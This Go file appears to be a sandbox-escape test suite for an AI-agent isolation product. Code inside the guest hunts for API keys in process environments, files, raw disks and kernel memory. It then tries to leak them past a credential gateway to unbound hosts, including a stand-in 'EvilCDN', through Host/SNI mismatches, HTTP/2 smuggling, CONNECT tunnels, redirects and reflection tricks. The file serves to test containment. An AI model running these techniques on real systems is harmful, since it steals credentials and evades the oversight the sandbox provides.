//go:build linux && escape

package main

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"crypto/tls"
	"debug/elf"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/klauspost/compress/zstd"

	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
)

// value returns what the guest has for a secret: a placeholder, or without a gateway the secret.
func value(name string) string {
	found, _ := filepath.Glob("/run/agent/*/secrets/" + name) // the pattern is valid
	for _, path := range found {
		if text, err := os.ReadFile(path); err == nil {
			return string(text)
		}
	}
	say("secret %s: none in the guest", name)
	return "none"
}

func bearer(name string) string { return "Authorization: Bearer " + value(name) + "\r\n" }

func basic(name string) string {
	return "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("x:"+value(name))) + "\r\n"
}

// request returns a request without a body; the server closes the connection after it.
func request(method, target, host, headers string) string {
	return method + " " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + headers + "Content-Length: 0\r\nConnection: close\r\n\r\n"
}

// secure sends something over TLS, and reports the answers with all that they could mean.
func (a *attempt) secure(name string, port int, sni, text string) {
	c, err := a.tlsClient(name, port, &tls.Config{ServerName: sni})
	if err != nil {
		say("tls %s sni=%s: %v", name, sni, err)
		return
	}
	defer c.Close()
	_, err = io.WriteString(c, text)
	_ = c.SetReadDeadline(time.Now().Add(answerTime)) // the read reports an error
	b, rerr := io.ReadAll(io.LimitReader(c, 1<<20))
	say("tls %s: sent %v, read %d bytes, %v", sni, err, len(b), rerr)
	reveal(b)
}

// to sends a request to its own host.
func (a *attempt) to(host, text string) { a.secure(host, 443, host, text) }

// reveal prints an answer, read in every way.
func reveal(answer []byte) {
	say("%s", answer)
	r := bufio.NewReader(bytes.NewReader(answer))
	for {
		resp, err := http.ReadResponse(r, nil)
		if err != nil {
			break
		}
		body, err := io.ReadAll(resp.Body)
		say("%s %v\n%s\n%v %v", resp.Status, resp.Header, body, resp.Trailer, err)
		if len(body) > 0 {
			decode(body)
		}
		if resp.StatusCode == http.StatusSwitchingProtocols {
			rest, _ := io.ReadAll(r) // the frames up to the end of what was read
			decode(rest)
		}
	}
	decode(answer)
}

var hexRun = regexp.MustCompile(`[0-9A-Fa-f]{16,}`)

var run = regexp.MustCompile(`[A-Za-z0-9+/_=-]{16,}`)

// decode prints what a text contains, in usual encodings.
func decode(text []byte) {
	if plain, err := url.QueryUnescape(string(text)); err == nil {
		say("%s", plain)
	}
	say("%s", strings.ReplaceAll(string(text), `\/`, "/"))
	backwards := slices.Clone(text)
	slices.Reverse(backwards)
	say("%s", backwards)
	for _, one := range run.FindAllString(string(text), -1) {
		for _, digits := range hexRun.FindAllString(one, -1) {
			b, _ := hex.DecodeString(digits) // as far as it goes
			say("%q", b)
		}
		one = strings.NewReplacer("-", "+", "_", "/", "=", "").Replace(one)
		for from := range 4 {
			if from >= len(one) {
				break
			}
			b, _ := base64.RawStdEncoding.DecodeString(one[from : from+(len(one)-from)/4*4]) // as far as it goes
			say("%q", b)
		}
	}
	for _, open := range []func(io.Reader) (io.Reader, error){
		func(r io.Reader) (io.Reader, error) { return gzip.NewReader(r) },
		func(r io.Reader) (io.Reader, error) { return flate.NewReader(r), nil },
		func(r io.Reader) (io.Reader, error) { return zstd.NewReader(r) },
	} {
		if r, err := open(bytes.NewReader(text)); err == nil {
			b, _ := io.ReadAll(io.LimitReader(r, 1<<20)) // as far as it goes
			say("%s", b)
		}
	}
}

// secrets returns the techniques that look for a secret's value, or send it to hosts that it is not
// bound to.
func secrets() map[string]func(*attempt) {
	path := func(a *attempt) string { return "/" + a.token }
	return map[string]func(*attempt){
		"secret-processes": func(*attempt) {
			for _, pattern := range []string{"/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline"} {
				paths, _ := filepath.Glob(pattern) // the pattern is valid
				for _, p := range paths {
					if text, err := os.ReadFile(p); err == nil {
						hunt(bytes.NewReader(text), p)
					}
				}
			}
		},
		"secret-files": func(*attempt) {
			for _, top := range []string{"/run", "/tmp", "/dev/shm", "/home", "/root", "/etc", "/boot", "/var/log", "/var/lib/cloud", "/mnt", "/sys/firmware", "/proc/cmdline"} {
				_ = filepath.WalkDir(top, func(p string, d fs.DirEntry, err error) error { // what cannot be read is skipped
					if err == nil && d.Type().IsRegular() {
						huntFile(p)
					}
					return nil
				})
			}
		},
		"secret-disk": func(*attempt) {
			disks, _ := filepath.Glob("/dev/vd?") // the pattern is valid
			others, _ := filepath.Glob("/dev/sr?")
			say("disks: %v", append(disks, others...))
			for _, p := range append(disks, others...) {
				huntFile(p)
			}
		},
		"secret-memory": func(*attempt) { huntMemory() },
		"secret-host":   func(*attempt) {}, // the test on the host looks there
		"secret-unbound": func(a *attempt) {
			for _, name := range []string{plan.Key, plan.ForgeKey, plan.ModelKey} {
				for _, header := range []string{bearer(name), basic(name), "Cookie: k=" + value(name) + "\r\n"} {
					a.to(plan.Allowed, request("GET", path(a), plan.Allowed, header))
				}
			}
			a.to(plan.Forge, request("GET", path(a), plan.Forge, bearer(plan.Key)))
			a.to(plan.Bound, request("GET", path(a), plan.Bound, bearer(plan.ForgeKey)))
		},
		"secret-unbound-h2": func(a *attempt) {
			a.h2(plan.Allowed, stream{fields: fields("GET", plan.Allowed, path(a), plan.Key)})
			a.h2(plan.Bound, stream{fields: fields("GET", plan.Bound, path(a), plan.ForgeKey)})
		},
		"secret-plain": func(a *attempt) {
			a.send(plan.Bound, 80, request("GET", path(a), plan.Bound, bearer(plan.Key)+"X-Forwarded-Proto: https\r\n"))
			a.send(plan.Forge, 80, request("GET", path(a), plan.Forge, basic(plan.ForgeKey)))
		},
		"secret-port": func(a *attempt) {
			for _, host := range []string{plan.Bound, plan.Bound + ":" + strconv.Itoa(plan.AltTLS)} {
				a.secure(plan.Bound, plan.AltTLS, plan.Bound, request("GET", path(a)+plan.Forbidden, host, bearer(plan.Key)))
			}
		},
		"secret-host-header": func(a *attempt) {
			for _, host := range []string{plan.Allowed, plan.EvilCDN, plan.Allowed + "@" + plan.Bound, plan.Bound + "," + plan.Allowed, plan.Forge} {
				a.to(plan.Bound, request("GET", path(a), host, bearer(plan.Key)))
			}
			a.to(plan.Bound, request("GET", path(a), plan.Bound+"\r\nHost: "+plan.Allowed, bearer(plan.Key)))
			a.to(plan.Bound, request("GET", path(a), plan.Bound, "X-Forwarded-Host: x\r\n Host: y\r\nHost : "+plan.Allowed+"\r\n"+bearer(plan.Key)))
		},
		"secret-sni": func(a *attempt) {
			a.secure(plan.Bound, 443, plan.Allowed, request("GET", path(a)+plan.Forbidden, plan.Bound, bearer(plan.Key)))
			a.secure(plan.Allowed, 443, plan.Allowed, request("GET", path(a)+plan.Forbidden, plan.Bound, bearer(plan.Key)))
			a.secure(plan.Allowed, 443, plan.Bound, request("GET", path(a)+plan.Forbidden, plan.Bound, bearer(plan.Key)))
		},
		"secret-absolute": func(a *attempt) {
			a.to(plan.Bound, request("GET", "https://"+plan.Allowed+path(a), plan.Bound, bearer(plan.Key)))
			a.to(plan.Bound, request("GET", "http://"+plan.Allowed+path(a), plan.Bound, bearer(plan.Key)))
			a.to(plan.Bound, request("GET", "https://"+plan.Bound+"@"+plan.Allowed+path(a), plan.Bound, bearer(plan.Key)))
		},
		"secret-connect": func(a *attempt) {
			inner := request("GET", path(a), plan.Allowed, bearer(plan.Key))
			a.to(plan.Bound, "CONNECT "+plan.Allowed+":443 HTTP/1.1\r\nHost: "+plan.Allowed+"\r\n\r\n"+inner)
			a.to(plan.Bound, "CONNECT "+plan.Bound+" HTTP/1.1\r\nHost: "+plan.Bound+"\r\n\r\n"+inner)
			a.to(plan.Bound, "GET / HTTP/1.1\r\nHost: "+plan.Bound+"\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n"+inner)
		},
		"secret-authority": func(a *attempt) {
			own := stream{fields: fields("GET", plan.Bound, "/", plan.Key)}
			for _, other := range []string{plan.Allowed, plan.EvilCDN, plan.Forge} {
				a.h2(plan.Bound, stream{fields: fields("GET", other, path(a), plan.Key)})
				a.h2(plan.Bound, own, stream{fields: fields("GET", other, path(a), plan.Key)})
			}
			a.h2(plan.Allowed, stream{fields: fields("GET", plan.Bound, path(a)+plan.Forbidden, plan.Key)})
		},
		"secret-pseudo": func(a *attempt) {
			f := fields("GET", plan.Bound, path(a), plan.Key)
			a.h2(plan.Bound, stream{fields: append([]field{{":authority", plan.Allowed}}, f...)})
			a.h2(plan.Bound, stream{fields: append(f[:len(f):len(f)], field{"host", plan.Allowed})})
			a.h2(plan.Bound, stream{fields: append(f[:len(f):len(f)], field{":authority", plan.Allowed})})
			a.h2(plan.Bound, stream{fields: append([]field{{":path", path(a) + plan.Forbidden}}, f...)})
			without := fields("GET", plan.Allowed, path(a), plan.Key)
			a.h2(plan.Bound, stream{fields: append(without[:1:1], append(without[2:], field{"host", plan.Allowed})...)})
		},
		"secret-continuation": func(a *attempt) {
			smuggled := "x\r\n\r\n" + strings.TrimSuffix(request("GET", path(a)+plan.Forbidden, plan.Bound, bearer(plan.Key)), "\r\n\r\n")
			f := fields("GET", plan.Bound, "/", plan.Key)
			for _, evil := range []field{{"x-a", smuggled}, {"x-a\r\n\r\nGET " + path(a) + plan.Forbidden + " HTTP/1.1\r\nhost: " + plan.Bound + "\r\n" + bearer(plan.Key) + "x", "y"}} {
				a.h2(plan.Bound, stream{fields: append(f[:len(f):len(f)], evil), split: 7})
			}
			a.h2(plan.Bound, stream{fields: fields("GET", plan.Bound, "/ HTTP/1.1\r\nhost: x\r\n\r\nGET "+path(a)+plan.Forbidden, plan.Key), split: 3})
			// Without a check of the authority, the last one counts.
			a.h2(plan.Bound, stream{fields: append(fields("GET", plan.Allowed, path(a), plan.Key), field{"x-pad", strings.Repeat("p", 40000)}), split: 5000})
		},
		"secret-redirect": func(a *attempt) {
			for _, to := range []string{"https://" + plan.Allowed + path(a), "http://" + plan.Bound + path(a), "https://" + plan.Bound + ":" + strconv.Itoa(plan.AltTLS) + path(a) + plan.Forbidden} {
				a.follow("https://"+plan.Bound+"/redirect?to="+url.QueryEscape(to), plan.Key)
			}
		},
		"secret-url": func(a *attempt) {
			v := value(plan.Key)
			percent := ""
			for _, b := range []byte(v) {
				percent += fmt.Sprintf("%%%02x", b)
			}
			for _, target := range []string{
				path(a) + "/" + v, path(a) + "?k=" + v, path(a) + "?k=" + url.QueryEscape(v), path(a) + "/" + percent, path(a) + "?k=" + percent,
				"https://x:" + url.QueryEscape(v) + "@" + plan.Bound + path(a), path(a) + "#" + v, path(a) + "/%25" + percent[1:],
			} {
				a.to(plan.Bound, request("GET", target, plan.Bound, ""))
				a.to(plan.Bound, request("GET", target, plan.Bound, bearer(plan.Key)))
			}
		},
		"secret-body": func(a *attempt) {
			v := value(plan.Key)
			for _, body := range []string{v, "k=" + url.QueryEscape(v), `{"k":"` + v + `"}`} {
				a.to(plan.Bound, fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", path(a), plan.Bound, len(body), body))
			}
			a.to(plan.Bound, "POST "+path(a)+" HTTP/1.1\r\nHost: "+plan.Bound+"\r\nTransfer-Encoding: chunked\r\nTrailer: X-K\r\nConnection: close\r\n\r\n0\r\nX-K: "+v+"\r\n\r\n")
			a.to(plan.Bound, request("GET", path(a), plan.Bound, "X-"+value(plan.ForgeKey)+": y\r\n"))
			a.to(plan.Forge, request("GET", path(a), plan.Forge, "X-"+value(plan.ForgeKey)+": y\r\n"))
		},
		"secret-guess": func(a *attempt) {
			v := value(plan.Key)
			if !a.stock {
				headers := ""
				for i := range 200 {
					headers += fmt.Sprintf("X-%d: bk/%026d\r\n", i, i)
				}
				for i := range v {
					changed := []byte(v)
					changed[i] ^= 1
					headers += "X-C" + strconv.Itoa(i) + ": " + string(changed) + "\r\nX-P" + strconv.Itoa(i) + ": " + v[:i] + "\r\nX-S" + strconv.Itoa(i) + ": " + v[i+1:] + "\r\n"
				}
				v = strings.ToUpper(v) + " " + strings.ToLower(v) + " " + url.PathEscape(v) + " " + hex.EncodeToString([]byte(v)) + "\r\n" + strings.TrimSuffix(headers, "\r\n")
			}
			a.to(plan.Bound, request("GET", path(a)+plan.Forbidden, plan.Bound, "X-K: "+v+"\r\n"))
		},
		"secret-session": func(a *attempt) {
			v := a.other
			if a.stock {
				v = value(plan.Key)
			}
			a.to(plan.Bound, request("GET", path(a)+plan.Forbidden, plan.Bound, "Authorization: Bearer "+v+"\r\n"))
			a.h2(plan.Bound, stream{fields: append(fields("GET", plan.Bound, path(a)+plan.Forbidden, "")[:4], field{"authorization", v})})
		},
		"secret-container": func(a *attempt) {
			if os.Getenv("ATTACK_CONTAINER") != "" {
				a.to(plan.Allowed, request("GET", path(a), plan.Allowed, bearer(plan.Key)))
				a.to(plan.Bound, request("GET", path(a)+"/reflect?as=plain", plan.Bound, bearer(plan.Key)))
				return
			}
			script := `set -e
ip netns add box; trap 'ip netns del box; iptables -t nat -F POSTROUTING' EXIT
ip link add box0 type veth peer name eth0 netns box
ip addr add 10.200.0.1/24 dev box0; ip link set box0 up
ip -n box addr add 10.200.0.2/24 dev eth0; ip -n box link set eth0 up; ip -n box link set lo up; ip -n box route add default via 10.200.0.1
sysctl -qw net.ipv4.ip_forward=1; iptables -t nat -A POSTROUTING -s 10.200.0.0/24 -j MASQUERADE
ATTACK_CONTAINER=1 ip netns exec box "$@"`
			cmd := exec.Command("sh", append([]string{"-c", script, "sh"}, os.Args...)...)
			out, err := cmd.CombinedOutput()
			say("%s %v", out, err)
		},
	}
}

// reflections returns the techniques in which the bound host gives the secret back.
func reflections() map[string]func(*attempt) {
	ask := func(headers string, forms ...string) func(*attempt) {
		return func(a *attempt) {
			for _, form := range forms {
				a.to(plan.Bound, request("GET", "/"+a.token+"/reflect?as="+form, plan.Bound, headers+bearer(plan.Key)))
			}
		}
	}
	return map[string]func(*attempt){
		"reflect-body": ask("", "plain", "bytes"),
		"reflect-h2": func(a *attempt) {
			for _, form := range []string{"plain", "bytes", "header", "name", "trailer", "early"} {
				a.h2(plan.Bound, stream{fields: fields("GET", plan.Bound, "/"+a.token+"/reflect?as="+form, plan.Key)})
			}
		},
		"reflect-header":  ask("", "header", "reason"),
		"reflect-name":    ask("TE: trailers\r\n", "name", "trailername"),
		"reflect-trailer": ask("TE: trailers\r\n", "trailer", "extension"),
		"reflect-early":   ask("Expect: 100-continue\r\n", "early", "continue"),
		"reflect-encoded": ask("", "base64", "base64-1", "base64-2", "base64url", "hex", "HEX", "percent", "json"),
		"reflect-compressed": func(a *attempt) {
			for _, accept := range []string{"", "Accept-Encoding: gzip, deflate, br, zstd\r\n", "Accept-Encoding: identity\r\n", "TE: gzip, deflate\r\n"} {
				ask(accept, "gzip", "deflate", "zstd", "transfer")(a)
			}
		},
		"reflect-error":  ask("", "400", "404", "431", "500", "304"),
		"reflect-events": ask("Accept: text/event-stream\r\n", "events"),
		"reflect-websocket": ask("Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n",
			"websocket", "websocket-deflated"),
		"reflect-range": func(a *attempt) {
			whole := ""
			for from := 0; from < 60; from += 5 {
				c, err := a.tlsClient(plan.Bound, 443, &tls.Config{ServerName: plan.Bound})
				if err != nil {
					say("tls: %v", err)
					return
				}
				_, err = io.WriteString(c, request("GET", "/"+a.token+"/reflect?as=plain", plan.Bound, fmt.Sprintf("Range: bytes=%d-%d\r\n", from, from+4)+bearer(plan.Key)))
				resp, rerr := http.ReadResponse(bufio.NewReader(c), nil)
				if err != nil || rerr != nil {
					say("range: %v %v", err, rerr)
					return
				}
				b, err := io.ReadAll(resp.Body)
				c.Close()
				say("range %d: %s %q %v", from, resp.Status, b, err)
				whole += string(b)
			}
			say("%s", whole)
		},
		"reflect-trace": func(a *attempt) {
			for _, method := range []string{"TRACE", "trace", "TRACK", "Trace", "DEBUG"} {
				a.to(plan.Bound, request(method, "/"+a.token, plan.Bound, bearer(plan.Key)))
			}
		},
		"limit-reflect": ask("", "reverse"),
	}
}

// follow requests a URL as a client that keeps its headers on redirects.
func (a *attempt) follow(from, name string) {
	u, err := url.Parse(from)
	for range 3 {
		if err != nil {
			say("redirect: %v", err)
			return
		}
		port, text := 443, request("GET", u.RequestURI(), u.Host, bearer(name))
		if u.Port() != "" {
			port, _ = strconv.Atoi(u.Port()) // the test's own URL
		}
		if u.Scheme == "http" {
			a.send(u.Hostname(), 80, text)
			return
		}
		c, err2 := a.tlsClient(u.Hostname(), port, &tls.Config{ServerName: u.Hostname()})
		if err2 != nil {
			say("redirect: %v", err2)
			return
		}
		_, err = io.WriteString(c, text)
		resp, err2 := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil || err2 != nil {
			say("redirect: %v %v", err, err2)
			c.Close()
			return
		}
		say("redirect: %s %v", resp.Status, resp.Header)
		c.Close()
		if u, err = resp.Location(); err != nil {
			return
		}
	}
}

// hunt prints everything that begins like a secret, once.
func hunt(r io.Reader, place string) (n int64) {
	const longest = 100
	found := map[string]bool{}
	buf := make([]byte, 4<<20)
	kept := 0
	for {
		m, err := r.Read(buf[kept:])
		n += int64(m)
		data := buf[:kept+m]
		for _, prefix := range []string{"bk/", "ghp_", "sk-ant-api03-"} {
			for at := 0; ; {
				i := bytes.Index(data[at:], []byte(prefix))
				if i < 0 {
					break
				}
				at += i
				text := run.Find(data[at:min(len(data), at+longest)])
				if len(text) >= 30 && bytes.HasPrefix(data[at:], text) && !found[string(text)] && len(found) < 1000 {
					found[string(text)] = true
					say("%s: %s", place, text)
				}
				at += len(prefix)
			}
		}
		if err != nil {
			return n
		}
		kept = copy(buf, data[max(0, len(data)-longest):])
	}
}

func huntFile(path string) {
	f, err := os.Open(path)
	if err != nil {
		return
	}
	defer f.Close()
	if n := hunt(f, path); n > 1<<30 {
		say("%s: %d bytes searched", path, n)
	}
}

// huntMemory searches the memory of the guest as the kernel maps it.
func huntMemory() {
	f, err := os.Open("/proc/kcore")
	if err != nil {
		say("memory: %v", err)
		return
	}
	defer f.Close()
	core, err := elf.NewFile(f)
	if err != nil {
		say("memory: %v", err)
		return
	}
	total := int64(0)
	for _, p := range core.Progs {
		if p.Type == elf.PT_LOAD && p.Filesz < 8<<30 && p.Filesz > 1<<20 {
			total += hunt(p.Open(), fmt.Sprintf("memory at %#x", p.Paddr))
		}
	}
	say("memory: %d bytes searched", total)
}
